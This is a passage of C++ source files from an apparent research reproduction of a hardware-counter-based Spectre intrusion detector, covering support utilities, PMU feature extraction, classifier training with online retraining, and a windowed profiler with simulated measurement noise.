    }
    out += '\n';
  };

  emit_row(header_);
  for (std::size_t c = 0; c < header_.size(); ++c) {
    out.append(widths[c], '-');
    if (c + 1 < header_.size()) out += "-+-";
  }
  out += '\n';
  for (const auto& row : rows_) emit_row(row);
  return out;
}

}  // namespace crs
