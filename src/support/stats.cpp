#include "support/stats.hpp"

#include <algorithm>
#include <cmath>

#include "support/error.hpp"

namespace crs {

void OnlineStats::add(double x) {
  if (n_ == 0) {
    min_ = x;
    max_ = x;
  } else {
    min_ = std::min(min_, x);
    max_ = std::max(max_, x);
  }
  ++n_;
  const double delta = x - mean_;
  mean_ += delta / static_cast<double>(n_);
  m2_ += delta * (x - mean_);
}

void OnlineStats::merge(const OnlineStats& other) {
  if (other.n_ == 0) return;
  if (n_ == 0) {
    *this = other;
    return;
  }
  const double delta = other.mean_ - mean_;
  const auto na = static_cast<double>(n_);
  const auto nb = static_cast<double>(other.n_);
  const double total = na + nb;
  mean_ += delta * nb / total;
  m2_ += other.m2_ + delta * delta * na * nb / total;
  min_ = std::min(min_, other.min_);
  max_ = std::max(max_, other.max_);
  n_ += other.n_;
}

double OnlineStats::variance() const {
  if (n_ < 2) return 0.0;
  return m2_ / static_cast<double>(n_ - 1);
}

double OnlineStats::stddev() const { return std::sqrt(variance()); }

double mean(std::span<const double> xs) {
  OnlineStats s;
  for (double x : xs) s.add(x);
  return s.mean();
}

double variance(std::span<const double> xs) {
  OnlineStats s;
  for (double x : xs) s.add(x);
  return s.variance();
}

double stddev(std::span<const double> xs) {
  OnlineStats s;
  for (double x : xs) s.add(x);
  return s.stddev();
}

double median(std::vector<double> xs) { return percentile(std::move(xs), 50.0); }

double percentile(std::vector<double> xs, double p) {
  CRS_ENSURE(!xs.empty(), "percentile of empty sample");
  CRS_ENSURE(p >= 0.0 && p <= 100.0, "percentile p out of range");
  std::sort(xs.begin(), xs.end());
  if (xs.size() == 1) return xs[0];
  const double pos = p / 100.0 * static_cast<double>(xs.size() - 1);
  const auto lo = static_cast<std::size_t>(pos);
  const double frac = pos - static_cast<double>(lo);
  if (lo + 1 >= xs.size()) return xs.back();
  return xs[lo] * (1.0 - frac) + xs[lo + 1] * frac;
}

}  // namespace crs
