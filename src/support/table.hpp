// ASCII table renderer used by the benchmark harnesses to print the paper's
// tables and figure series in a uniform format.
#pragma once

#include <string>
#include <vector>

namespace crs {

/// Column-aligned ASCII table. Rows may have fewer cells than the header;
/// missing cells render empty.
class Table {
 public:
  explicit Table(std::vector<std::string> header);

  void add_row(std::vector<std::string> row);

  /// Renders with a header rule, e.g.
  ///   Benchmark     | IPC   | Overhead
  ///   --------------+-------+---------
  ///   Math          | 0.912 | 0.8%
  std::string render() const;

  std::size_t row_count() const { return rows_.size(); }

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

}  // namespace crs
