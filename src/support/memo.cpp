#include "support/memo.hpp"

#include <cstdlib>
#include <cstring>

namespace crs {

namespace {

int initial_state(const char* var) {
  const char* env = std::getenv(var);
  if (env != nullptr &&
      (std::strcmp(env, "off") == 0 || std::strcmp(env, "0") == 0)) {
    return 0;
  }
  return 1;
}

std::atomic<int>& state() {
  static std::atomic<int> s{initial_state("CRS_SNAPSHOT")};
  return s;
}

std::atomic<int>& cow_state() {
  static std::atomic<int> s{initial_state("CRS_COW")};
  return s;
}

}  // namespace

bool fast_reset_enabled() {
  return state().load(std::memory_order_relaxed) != 0;
}

void set_fast_reset_enabled(bool enabled) {
  state().store(enabled ? 1 : 0, std::memory_order_relaxed);
}

bool cow_enabled() {
  return cow_state().load(std::memory_order_relaxed) != 0;
}

void set_cow_enabled(bool enabled) {
  cow_state().store(enabled ? 1 : 0, std::memory_order_relaxed);
}

}  // namespace crs
