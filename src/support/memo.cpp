#include "support/memo.hpp"

#include <cstdlib>
#include <cstring>

namespace crs {

namespace {

int initial_state() {
  const char* env = std::getenv("CRS_SNAPSHOT");
  if (env != nullptr &&
      (std::strcmp(env, "off") == 0 || std::strcmp(env, "0") == 0)) {
    return 0;
  }
  return 1;
}

std::atomic<int>& state() {
  static std::atomic<int> s{initial_state()};
  return s;
}

}  // namespace

bool fast_reset_enabled() {
  return state().load(std::memory_order_relaxed) != 0;
}

void set_fast_reset_enabled(bool enabled) {
  state().store(enabled ? 1 : 0, std::memory_order_relaxed);
}

}  // namespace crs
