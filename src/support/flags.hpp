// Shared CLI flag-parsing helper for the tools.
//
// Every tool used to hand-roll its own argv loop, and the error message for
// a value-taking flag given as the last argument drifted between them
// (crsim said "--seed needs a value" while crs_matrix said "flag '--seed'
// needs a value"). FlagCursor is the one shared implementation: a cursor
// over argv that yields flags, consumes their values with a uniform
// "<flag> needs a value" error, and understands both the spaced
// (`--seed 7`) and inline (`--seed=7`) spellings.
#pragma once

#include <cstdint>
#include <string>

#include "support/error.hpp"

namespace crs {

/// Cursor over argv. Typical tool loop:
///
///   FlagCursor args(argc, argv);
///   while (args.more()) {
///     if (args.take("--quick")) { quick = true; }
///     else if (args.take_value("--seed", value)) { ... }
///     else break;   // positional argument (or let unknown() report it)
///   }
class FlagCursor {
 public:
  FlagCursor(int argc, char** argv, int start = 1)
      : argc_(argc), argv_(argv), index_(start) {}

  /// True while an argument remains.
  bool more() const { return index_ < argc_; }

  /// True while an argument remains and it looks like a flag.
  bool more_flags() const { return more() && argv_[index_][0] == '-'; }

  /// The current argument (verbatim).
  std::string current() const { return argv_[index_]; }

  /// Consumes the current argument if it equals `flag` exactly.
  bool take(const std::string& flag) {
    if (!more() || flag != argv_[index_]) return false;
    ++index_;
    return true;
  }

  /// Consumes `--flag value` or `--flag=value`, storing the value. Throws
  /// crs::Error("<flag> needs a value") when the flag is the last argument
  /// (instead of falling through to an "unknown flag" report).
  bool take_value(const std::string& flag, std::string& out) {
    if (!more()) return false;
    const std::string arg = argv_[index_];
    if (arg == flag) {
      if (index_ + 1 >= argc_) throw Error(flag + " needs a value");
      out = argv_[index_ + 1];
      index_ += 2;
      return true;
    }
    if (arg.size() > flag.size() + 1 && arg.compare(0, flag.size(), flag) == 0 &&
        arg[flag.size()] == '=') {
      out = arg.substr(flag.size() + 1);
      ++index_;
      return true;
    }
    // `--flag=` with an empty value still counts as provided-but-empty.
    if (arg == flag + "=") {
      out.clear();
      ++index_;
      return true;
    }
    return false;
  }

  /// take_value + unsigned 64-bit parse (base auto-detected).
  bool take_u64(const std::string& flag, std::uint64_t& out);

  /// take_value + int parse.
  bool take_int(const std::string& flag, int& out);

  /// Consumes and returns the current positional argument.
  std::string take_positional() { return argv_[index_++]; }

  /// Throws the uniform unknown-flag error for the current argument.
  [[noreturn]] void unknown() const {
    throw Error("unknown flag '" + current() + "'");
  }

 private:
  int argc_;
  char** argv_;
  int index_;
};

/// Parses an on/off flag value ("on"/"1" → true, "off"/"0" → false); throws
/// crs::Error naming the flag otherwise.
bool parse_on_off(const std::string& flag, const std::string& value);

/// Applies the repo-wide `--snapshot on|off` flag (the fast-reset engine
/// switch shared by crsim, crs_matrix and crs_serve).
void apply_snapshot_flag(const std::string& value);

/// Applies the repo-wide `--cow on|off` flag (the copy-on-write machine
/// forking switch shared by crsim, crs_matrix and crs_serve).
void apply_cow_flag(const std::string& value);

}  // namespace crs
