// Deterministic parallel experiment runner.
//
// Every campaign, corpus build and figure sweep in the reproduction is a
// loop over independent work items (one simulated machine each). This module
// runs such loops on a fixed thread pool under a strict determinism
// contract:
//
//   * Work items are share-nothing: each item derives ALL of its state from
//     its index (seed it with `derive_seed(base_seed, index)` and build its
//     own Machine) and touches nothing mutable outside its result slot.
//   * Results are collected by index (`parallel_map` writes `out[i]`) and
//     reduced in index order by the caller.
//
// Under that contract the output is bit-identical to the serial loop for
// every thread count, including 1 (which runs inline with no pool). Thread
// count resolution: explicit argument > `set_thread_override` (the
// `--threads` CLI flag) > `CRS_THREADS` env var > hardware concurrency.
#pragma once

#include <condition_variable>
#include <cstdint>
#include <exception>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace crs {

/// Resolves a worker count; always >= 1. `requested == 0` means "pick for
/// me" (override, then CRS_THREADS, then hardware concurrency).
unsigned resolve_thread_count(unsigned requested = 0);

/// Installs a process-wide thread-count override (0 clears it). Wired to the
/// `--threads` CLI flag of the tools and benches; beats CRS_THREADS.
void set_thread_override(unsigned threads);

/// Mixes (base_seed, index) into an independent per-item stream seed
/// (SplitMix64 finalisation), so item i's Rng does not depend on which
/// thread runs it or on how many items ran before it.
std::uint64_t derive_seed(std::uint64_t base_seed, std::uint64_t index);

/// Fixed pool of worker threads executing one index-ranged job at a time.
class ThreadPool {
 public:
  /// Spawns `resolve_thread_count(threads) - 1` workers (the calling thread
  /// participates in every job). A pool of size 1 spawns nothing and runs
  /// jobs inline — the serial fallback.
  explicit ThreadPool(unsigned threads = 0);
  ~ThreadPool();
  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  /// Total threads that execute work (workers + the caller).
  unsigned size() const { return static_cast<unsigned>(workers_.size()) + 1; }

  /// Runs fn(i) for every i in [0, n), claiming indices dynamically, and
  /// returns once all n calls finished. The first exception thrown by any
  /// item is rethrown here after the batch drains. Not reentrant: do not
  /// call from inside a work item.
  void for_each_index(std::size_t n,
                      const std::function<void(std::size_t)>& fn);

 private:
  void worker_loop();
  void run_items();

  std::vector<std::thread> workers_;
  std::mutex mutex_;
  std::condition_variable wake_;
  std::condition_variable done_;
  const std::function<void(std::size_t)>* fn_ = nullptr;  // active job
  std::size_t total_ = 0;
  std::size_t next_ = 0;
  std::size_t pending_ = 0;
  std::uint32_t lane_base_ = 0;  // obs lane block of the active job
  std::exception_ptr error_;
  bool stop_ = false;
};

/// Maps [0, n) through `fn` on the pool, collecting results by index. The
/// index-ordered output vector is what makes downstream reduction
/// deterministic regardless of execution interleaving.
template <typename R, typename F>
std::vector<R> parallel_map(ThreadPool& pool, std::size_t n, F&& fn) {
  std::vector<R> out(n);
  pool.for_each_index(n, [&](std::size_t i) { out[i] = fn(i); });
  return out;
}

}  // namespace crs
