#include "support/flags.hpp"

#include <cstdlib>

#include "support/memo.hpp"

namespace crs {

bool FlagCursor::take_u64(const std::string& flag, std::uint64_t& out) {
  std::string v;
  if (!take_value(flag, v)) return false;
  char* end = nullptr;
  out = std::strtoull(v.c_str(), &end, 0);
  if (end == v.c_str() || *end != '\0') {
    throw Error(flag + " wants an unsigned integer, got '" + v + "'");
  }
  return true;
}

bool FlagCursor::take_int(const std::string& flag, int& out) {
  std::string v;
  if (!take_value(flag, v)) return false;
  char* end = nullptr;
  const long parsed = std::strtol(v.c_str(), &end, 0);
  if (end == v.c_str() || *end != '\0') {
    throw Error(flag + " wants an integer, got '" + v + "'");
  }
  out = static_cast<int>(parsed);
  return true;
}

bool parse_on_off(const std::string& flag, const std::string& value) {
  if (value == "on" || value == "1") return true;
  if (value == "off" || value == "0") return false;
  throw Error(flag + " wants 'on' or 'off', got '" + value + "'");
}

void apply_snapshot_flag(const std::string& value) {
  set_fast_reset_enabled(parse_on_off("--snapshot", value));
}

void apply_cow_flag(const std::string& value) {
  set_cow_enabled(parse_on_off("--cow", value));
}

}  // namespace crs
