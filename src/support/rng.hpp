// Deterministic random number generation.
//
// Every stochastic component in the reproduction (ML weight init, dataset
// shuffles, workload input generation, ASLR offsets, HPC measurement noise)
// draws from an explicitly seeded `crs::Rng` so that experiments are
// reproducible bit-for-bit across runs and platforms.
#pragma once

#include <cstdint>
#include <vector>

namespace crs {

/// xoshiro256** generator seeded via SplitMix64. Deterministic and
/// platform-independent (unlike std::uniform_* distributions, whose output
/// is not pinned by the standard).
class Rng {
 public:
  explicit Rng(std::uint64_t seed = 0x9E3779B97F4A7C15ull);

  /// Next raw 64-bit value.
  std::uint64_t next_u64();

  /// Uniform integer in [0, bound). `bound` must be > 0.
  std::uint64_t next_below(std::uint64_t bound);

  /// Uniform integer in [lo, hi] inclusive.
  std::int64_t next_in(std::int64_t lo, std::int64_t hi);

  /// Uniform double in [0, 1).
  double next_double();

  /// Uniform double in [lo, hi).
  double next_double_in(double lo, double hi);

  /// Standard normal via Box-Muller.
  double next_gaussian();

  /// Normal with the given mean and standard deviation.
  double next_gaussian(double mean, double stddev);

  /// True with probability `p`.
  bool next_bernoulli(double p);

  /// Fisher-Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& v) {
    for (std::size_t i = v.size(); i > 1; --i) {
      const std::size_t j = static_cast<std::size_t>(next_below(i));
      using std::swap;
      swap(v[i - 1], v[j]);
    }
  }

  /// Derive an independent generator (for parallel or per-component use).
  Rng split();

 private:
  std::uint64_t s_[4];
  bool have_cached_gaussian_ = false;
  double cached_gaussian_ = 0.0;
};

}  // namespace crs
