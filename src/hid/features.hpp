// Feature extraction from PMU window samples.
//
// The full feature universe is every modelled PMU event plus the paper's
// two aggregates ("total cache misses", "total cache accesses"). §III-A
// names six canonical features; Fig. 4 sweeps the number of simultaneously
// counted events (1/2/4/8/16), which we reproduce with Fisher-score
// ranking over the universe. Features are normalised per kilo-instruction
// so window-length effects cancel.
#pragma once

#include <cstddef>
#include <string>
#include <vector>

#include "hid/profiler.hpp"
#include "ml/dataset.hpp"

namespace crs::hid {

/// Number of features in the universe (PMU events + derived aggregates).
std::size_t feature_universe_size();

/// Name of feature `index` (event name or "total_cache_*").
std::string feature_name(std::size_t index);

/// Full feature vector for one window (rates per 1000 instructions; the
/// cycles entry becomes CPI so the detector sees timing too).
std::vector<double> feature_vector(const sim::PmuSnapshot& delta);

/// Indices of the paper's six §III-A features: total cache misses, total
/// cache accesses, branches, branch mispredictions, instructions, cycles.
std::vector<std::size_t> paper_feature_indices();

/// The subset of the universe a real PMU/PAPI deployment can count: the
/// simulator's forensic-only counters (clflushes, fences, wrong-path
/// instruction/load counts, RSB mispredicts, syscalls) are excluded. The
/// detector selects its runtime features from this pool; the excluded
/// counters remain available to countermeasure ablations.
std::vector<std::size_t> detector_visible_features();

/// Builds a labelled dataset from windows: label 1 when `attack` (or when
/// the window's ground-truth `injected` flag is used by the caller).
ml::Dataset windows_to_dataset(const std::vector<WindowSample>& windows,
                               int label);

}  // namespace crs::hid
