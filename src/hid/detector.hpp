// The Hardware-assisted Intrusion Detector (HID).
//
// A detector = feature selection + standard scaler + one classifier from
// the paper's zoo. Two deployment modes reproduce §III-B:
//  - offline: trained once on clean benign/Spectre traces, never updated
//    (the [22]/CloudRadar-style static detector of Fig. 5);
//  - online: after every attack attempt the newly profiled windows are
//    added to the training set with their (defender-assigned) labels and
//    the model is retrained from scratch (Fig. 6).
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "hid/features.hpp"
#include "hid/profiler.hpp"
#include "ml/classifier.hpp"
#include "ml/dataset.hpp"
#include "ml/metrics.hpp"
#include "support/rng.hpp"

namespace crs::hid {

/// How the online HID incorporates newly labelled traces.
enum class OnlineMode {
  /// sklearn-partial_fit-style incremental update on the new batch only:
  /// the realistic streaming online learner (and the one CR-Spectre's
  /// moving-target strategy defeats, reproducing Fig. 6b).
  kIncremental,
  /// Full retraining on the entire accumulated dataset: a stronger,
  /// costlier defender — the ablation bench shows it largely defeats the
  /// dynamic perturbations.
  kFullRetrain,
};

struct DetectorConfig {
  /// "MLP", "NN", "LR" or "SVM".
  std::string classifier = "MLP";
  /// Explicit feature indices into the universe; empty = rank by Fisher
  /// score on the training data and take the top `feature_count` from
  /// `candidate_features`.
  std::vector<std::size_t> features;
  std::size_t feature_count = 4;  ///< paper's chosen runtime feature size
  /// Pool Fisher ranking selects from; empty = detector_visible_features().
  std::vector<std::size_t> candidate_features;
  OnlineMode online_mode = OnlineMode::kIncremental;
  std::uint64_t seed = 1;
};

/// Retraining activity, observable directly instead of only through
/// accuracy drift. Counters are cumulative over the detector's lifetime and
/// mirrored into the MetricsRegistry (`hid.detector.*`) as they happen.
struct DetectorStats {
  /// Full (re)trains: the initial fit() plus every kFullRetrain update.
  std::uint64_t full_refits = 0;
  /// partial_fit-style kIncremental updates.
  std::uint64_t incremental_updates = 0;
  /// Universe rows accepted through augment_and_refit.
  std::uint64_t augmented_rows = 0;

  std::uint64_t retrain_events() const {
    return full_refits + incremental_updates;
  }
};

class HidDetector {
 public:
  explicit HidDetector(const DetectorConfig& config);

  /// Initial training. `universe` rows are full feature_vector() outputs.
  void fit(const ml::Dataset& universe);

  /// Online learning: incorporate newly labelled windows per the
  /// configured OnlineMode (incremental update or full retrain on the
  /// augmented dataset).
  void augment_and_refit(const ml::Dataset& new_universe_rows);

  /// 1 = attack.
  int predict(const sim::PmuSnapshot& window_delta) const;

  /// Fraction of windows classified as attack (the per-attempt "accuracy"
  /// of Figs. 5/6 when applied to an attack run's windows).
  double detection_rate(const std::vector<WindowSample>& windows) const;

  /// Confusion over a labelled universe-feature test set (Fig. 4 metric).
  ml::ConfusionMatrix evaluate(const ml::Dataset& universe_test) const;

  const std::vector<std::size_t>& selected_features() const {
    return selected_;
  }
  const DetectorConfig& config() const { return config_; }
  std::size_t training_size() const { return training_.size(); }
  bool fitted() const { return fitted_; }
  const DetectorStats& stats() const { return stats_; }

 private:
  std::vector<double> project(std::span<const double> universe_row) const;
  void refit();

  DetectorConfig config_;
  ml::Dataset training_;  // universe-width rows, accumulated
  std::vector<std::size_t> selected_;
  ml::StandardScaler scaler_;
  std::unique_ptr<ml::Classifier> model_;
  Rng replay_rng_{0x5EED1234};
  bool fitted_ = false;
  // Mutated only from the (serial) training paths; predict/detection_rate
  // stay const and race-free for the parallel offline campaign.
  DetectorStats stats_;
};

}  // namespace crs::hid
