#include "hid/detector.hpp"

#include <algorithm>

#include "ml/mlp.hpp"
#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "support/error.hpp"

namespace crs::hid {

HidDetector::HidDetector(const DetectorConfig& config) : config_(config) {
  CRS_ENSURE(config_.feature_count > 0 || !config_.features.empty(),
             "detector needs at least one feature");
}

std::vector<double> HidDetector::project(
    std::span<const double> universe_row) const {
  std::vector<double> out(selected_.size());
  for (std::size_t j = 0; j < selected_.size(); ++j) {
    CRS_ENSURE(selected_[j] < universe_row.size(),
               "feature index out of range");
    out[j] = universe_row[selected_[j]];
  }
  return out;
}

void HidDetector::fit(const ml::Dataset& universe) {
  CRS_ENSURE(universe.size() > 0, "cannot fit on an empty dataset");
  training_ = universe;
  refit();
}

void HidDetector::augment_and_refit(const ml::Dataset& new_universe_rows) {
  CRS_ENSURE(fitted_, "augment_and_refit before fit");
  const std::size_t history_size = training_.size();
  training_.append_all(new_universe_rows);
  stats_.augmented_rows += new_universe_rows.size();
  if constexpr (obs::kEnabled) {
    obs::MetricsRegistry::instance()
        .counter("hid.detector.augmented_rows")
        .add(new_universe_rows.size());
  }
  if (config_.online_mode == OnlineMode::kFullRetrain) {
    refit();
    return;
  }
  // Incremental: keep the feature selection and scaler frozen (boundary
  // continuity) and continue training on the new batch mixed with a replay
  // sample of the history — the standard guard against batch imbalance
  // collapsing the model.
  ml::Dataset batch = new_universe_rows;
  const std::size_t replay = std::min(history_size, 2 * batch.size());
  for (std::size_t k = 0; k < replay; ++k) {
    const std::size_t i = replay_rng_.next_below(history_size);
    batch.append(training_.x.row(i), training_.y[i]);
  }
  const ml::Dataset projected = ml::select_features(batch, selected_);
  const ml::Matrix scaled = scaler_.transform(projected.x);
  model_->partial_fit(scaled, projected.y);
  ++stats_.incremental_updates;
  if constexpr (obs::kEnabled) {
    obs::MetricsRegistry::instance()
        .counter("hid.detector.incremental_updates")
        .add(1);
    // Timestamped by retrain ordinal: detector retrains happen between
    // machine runs, so no machine cycle is meaningful here.
    obs::trace_instant("hid.detector.retrain", stats_.retrain_events(),
                       static_cast<double>(training_.size()));
  }
}

void HidDetector::refit() {
  if (!config_.features.empty()) {
    selected_ = config_.features;
  } else {
    // Fisher-rank within the PMU-visible candidate pool.
    const std::vector<std::size_t> pool = config_.candidate_features.empty()
                                              ? detector_visible_features()
                                              : config_.candidate_features;
    const auto scores = ml::fisher_scores(training_);
    std::vector<std::size_t> ranked = pool;
    std::stable_sort(ranked.begin(), ranked.end(),
                     [&](std::size_t a, std::size_t b) {
                       return scores[a] > scores[b];
                     });
    ranked.resize(std::min(config_.feature_count, ranked.size()));
    selected_ = ranked;
  }

  const ml::Dataset projected = ml::select_features(training_, selected_);
  scaler_ = ml::StandardScaler();
  scaler_.fit(projected.x);
  const ml::Matrix scaled = scaler_.transform(projected.x);

  model_ = ml::make_classifier(config_.classifier, config_.seed);
  model_->fit(scaled, projected.y);
  fitted_ = true;
  ++stats_.full_refits;
  if constexpr (obs::kEnabled) {
    obs::MetricsRegistry::instance().counter("hid.detector.full_refits").add(1);
    obs::trace_instant("hid.detector.retrain", stats_.retrain_events(),
                       static_cast<double>(training_.size()));
  }
}

int HidDetector::predict(const sim::PmuSnapshot& window_delta) const {
  CRS_ENSURE(fitted_, "predict before fit");
  const auto universe_row = feature_vector(window_delta);
  const auto scaled = scaler_.transform(project(universe_row));
  return model_->predict(scaled);
}

double HidDetector::detection_rate(
    const std::vector<WindowSample>& windows) const {
  if (windows.empty()) return 0.0;
  std::size_t detected = 0;
  for (const auto& w : windows) {
    detected += predict(w.delta) == 1 ? 1 : 0;
  }
  return static_cast<double>(detected) / static_cast<double>(windows.size());
}

ml::ConfusionMatrix HidDetector::evaluate(
    const ml::Dataset& universe_test) const {
  CRS_ENSURE(fitted_, "evaluate before fit");
  std::vector<int> predicted(universe_test.size());
  for (std::size_t i = 0; i < universe_test.size(); ++i) {
    const auto scaled =
        scaler_.transform(project(universe_test.x.row(i)));
    predicted[i] = model_->predict(scaled);
  }
  return ml::confusion(universe_test.y, predicted);
}

}  // namespace crs::hid
