// Windowed HPC profiler — the PMU sampling half of the HID.
//
// Mirrors the PAPI-based tool of the paper's §III-A: while an application
// runs, the profiler samples the PMU every `window_cycles` and records the
// per-window counter deltas. Each window also carries ground truth (was an
// execve-injected binary running?) used ONLY for dataset labelling and
// evaluation, never as a model input.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sim/kernel.hpp"
#include "sim/pmu.hpp"

namespace crs::hid {

struct ProfilerConfig {
  std::uint64_t window_cycles = 20'000;
  /// Stop after this many windows even if the program keeps running.
  std::size_t max_windows = 100'000;
  std::uint64_t max_instructions = 2'000'000'000;
  /// Multiplicative Gaussian measurement noise per counter per window,
  /// modelling real PMU sampling error (interrupt skid, multiplexing).
  /// The paper's own per-attempt accuracy wiggle (Fig. 5a) comes from
  /// exactly this. 0 = ideal counters.
  double noise_sigma = 0.06;
  /// Additive background contamination: interrupts, kernel threads and
  /// other processes leak events into per-process counters (paper §III-C:
  /// "noise is caused by other applications and the operating system
  /// running in the background"). Scales a fixed per-kilocycle event-rate
  /// table; 1.0 ≈ a lightly loaded desktop, 0 disables.
  double background_intensity = 1.0;
  std::uint64_t noise_seed = 0x90210;
};

struct WindowSample {
  sim::PmuSnapshot delta{};       ///< measured (noisy) counter increments
  sim::PmuSnapshot true_delta{};  ///< noiseless increments (evaluation only)
  bool injected = false;          ///< ground truth: attack ran in window
};

struct ProfileResult {
  std::vector<WindowSample> windows;
  sim::StopReason stop = sim::StopReason::kHalted;
  std::string output;           ///< SYS_WRITE stream of the run
  std::uint64_t cycles = 0;
  std::uint64_t instructions = 0;

  /// IPC of the whole run.
  double ipc() const;
  std::size_t injected_window_count() const;
};

/// Runs `path` (already registered in `kernel`) with `args`, sampling
/// windows until exit. The kernel/machine must be freshly constructed for
/// reproducible results.
ProfileResult profile_run(sim::Kernel& kernel, const std::string& path,
                          const std::vector<std::vector<std::uint8_t>>& args,
                          const ProfilerConfig& config = {});

/// String-args convenience.
ProfileResult profile_run_strings(sim::Kernel& kernel, const std::string& path,
                                  const std::vector<std::string>& args,
                                  const ProfilerConfig& config = {});

}  // namespace crs::hid
