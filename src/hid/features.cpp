#include "hid/features.hpp"

#include "support/error.hpp"

namespace crs::hid {

namespace {

constexpr std::size_t kDerivedCount = 2;  // total cache misses / accesses

std::size_t ev(sim::Event e) { return static_cast<std::size_t>(e); }

}  // namespace

std::size_t feature_universe_size() {
  return sim::kEventCount + kDerivedCount;
}

std::string feature_name(std::size_t index) {
  if (index < sim::kEventCount) {
    return std::string(sim::event_name(static_cast<sim::Event>(index)));
  }
  const std::size_t d = index - sim::kEventCount;
  CRS_ENSURE(d < kDerivedCount, "feature index out of range");
  return d == 0 ? "total_cache_misses" : "total_cache_accesses";
}

std::vector<double> feature_vector(const sim::PmuSnapshot& delta) {
  const double instructions = std::max<double>(
      static_cast<double>(delta[ev(sim::Event::kInstructions)]), 1.0);
  const double per_kilo = 1000.0 / instructions;

  std::vector<double> out(feature_universe_size(), 0.0);
  for (std::size_t i = 0; i < sim::kEventCount; ++i) {
    out[i] = static_cast<double>(delta[i]) * per_kilo;
  }
  // Instructions would be constant (1000) after normalisation; keep the raw
  // count so window-level work intensity remains visible.
  out[ev(sim::Event::kInstructions)] = instructions;
  // Cycles per kilo-instruction = 1000 * CPI.
  out[ev(sim::Event::kCycles)] =
      static_cast<double>(delta[ev(sim::Event::kCycles)]) * per_kilo;
  out[sim::kEventCount + 0] =
      static_cast<double>(sim::derived_total_cache_misses(delta)) * per_kilo;
  out[sim::kEventCount + 1] =
      static_cast<double>(sim::derived_total_cache_accesses(delta)) * per_kilo;
  return out;
}

std::vector<std::size_t> detector_visible_features() {
  std::vector<std::size_t> out;
  for (std::size_t i = 0; i < feature_universe_size(); ++i) {
    switch (static_cast<sim::Event>(i)) {
      case sim::Event::kClflushes:
      case sim::Event::kMfences:
      case sim::Event::kSpecInstructions:
      case sim::Event::kSpecLoads:
      case sim::Event::kRsbMispredicts:
      case sim::Event::kSyscalls:
        continue;  // not observable by a PAPI-style profiler
      default:
        out.push_back(i);  // derived aggregates (>= kEventCount) included
    }
  }
  return out;
}

std::vector<std::size_t> paper_feature_indices() {
  return {
      sim::kEventCount + 0,                    // total cache misses
      sim::kEventCount + 1,                    // total cache accesses
      ev(sim::Event::kBranches),               // total branch instructions
      ev(sim::Event::kBranchMispredicts),      // branch mispredictions
      ev(sim::Event::kInstructions),           // total instructions
      ev(sim::Event::kCycles),                 // total cycles
  };
}

ml::Dataset windows_to_dataset(const std::vector<WindowSample>& windows,
                               int label) {
  ml::Dataset out;
  for (const auto& w : windows) {
    out.append(feature_vector(w.delta), label);
  }
  return out;
}

}  // namespace crs::hid
