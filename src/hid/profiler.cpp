#include "hid/profiler.hpp"

#include <cmath>

#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace crs::hid {

namespace {

/// Mean background events injected per 1000 window cycles — a lightly
/// loaded system's daemons, timer interrupts and kernel threads as seen by
/// per-process counter attribution.
double background_rate(sim::Event e) {
  switch (e) {
    case sim::Event::kInstructions: return 25.0;
    case sim::Event::kAluOps: return 12.0;
    case sim::Event::kLoads: return 6.0;
    case sim::Event::kStores: return 3.0;
    case sim::Event::kL1dAccesses: return 9.0;
    case sim::Event::kL1dMisses: return 0.5;
    case sim::Event::kL2Accesses: return 0.6;
    case sim::Event::kL2Misses: return 0.15;
    case sim::Event::kL1iAccesses: return 25.0;
    case sim::Event::kL1iMisses: return 0.4;
    case sim::Event::kBranches: return 5.0;
    case sim::Event::kTakenBranches: return 2.5;
    case sim::Event::kBranchMispredicts: return 0.4;
    case sim::Event::kIndirectJumps: return 0.2;
    case sim::Event::kCalls: return 0.6;
    case sim::Event::kReturns: return 0.6;
    case sim::Event::kStackOps: return 1.2;
    case sim::Event::kSpecInstructions: return 2.0;
    case sim::Event::kSpecLoads: return 0.4;
    case sim::Event::kRsbMispredicts: return 0.03;
    case sim::Event::kSyscalls: return 0.05;
    case sim::Event::kMfences: return 0.01;
    default: return 0.0;  // cycles (wall time) and clflushes stay clean
  }
}

sim::PmuSnapshot add_measurement_noise(const sim::PmuSnapshot& delta,
                                       const ProfilerConfig& config,
                                       Rng& rng) {
  if (config.noise_sigma <= 0.0 && config.background_intensity <= 0.0) {
    return delta;
  }
  const double kilocycles =
      static_cast<double>(delta[static_cast<std::size_t>(
          sim::Event::kCycles)]) / 1000.0;
  sim::PmuSnapshot out{};
  for (std::size_t i = 0; i < sim::kEventCount; ++i) {
    double v = static_cast<double>(delta[i]);
    if (config.noise_sigma > 0.0) {
      v *= std::max(0.0, 1.0 + rng.next_gaussian(0.0, config.noise_sigma));
    }
    if (config.background_intensity > 0.0) {
      const double lambda = config.background_intensity * kilocycles *
                            background_rate(static_cast<sim::Event>(i));
      if (lambda > 0.0) {
        v += std::max(0.0, rng.next_gaussian(lambda, 0.5 * lambda));
      }
    }
    out[i] = static_cast<std::uint64_t>(std::llround(std::max(0.0, v)));
  }
  return out;
}

}  // namespace

double ProfileResult::ipc() const {
  return cycles == 0 ? 0.0
                     : static_cast<double>(instructions) /
                           static_cast<double>(cycles);
}

std::size_t ProfileResult::injected_window_count() const {
  std::size_t n = 0;
  for (const auto& w : windows) n += w.injected ? 1 : 0;
  return n;
}

ProfileResult profile_run(sim::Kernel& kernel, const std::string& path,
                          const std::vector<std::vector<std::uint8_t>>& args,
                          const ProfilerConfig& config) {
  CRS_ENSURE(config.window_cycles > 0, "window_cycles must be positive");
  kernel.start(path, args);

  sim::Machine& machine = kernel.machine();
  ProfileResult out;
  const std::uint64_t start_cycle = machine.cpu().cycle();
  const std::uint64_t start_instr = machine.cpu().retired();
  sim::PmuSnapshot prev = machine.pmu().snapshot();
  int prev_execves = kernel.execve_count();
  bool was_injected = kernel.in_injected_binary();
  Rng noise_rng(config.noise_seed);

  for (;;) {
    const std::uint64_t target = machine.cpu().cycle() + config.window_cycles;
    const auto reason =
        kernel.run_until_cycle(target, config.max_instructions);
    const sim::PmuSnapshot now = machine.pmu().snapshot();

    WindowSample sample;
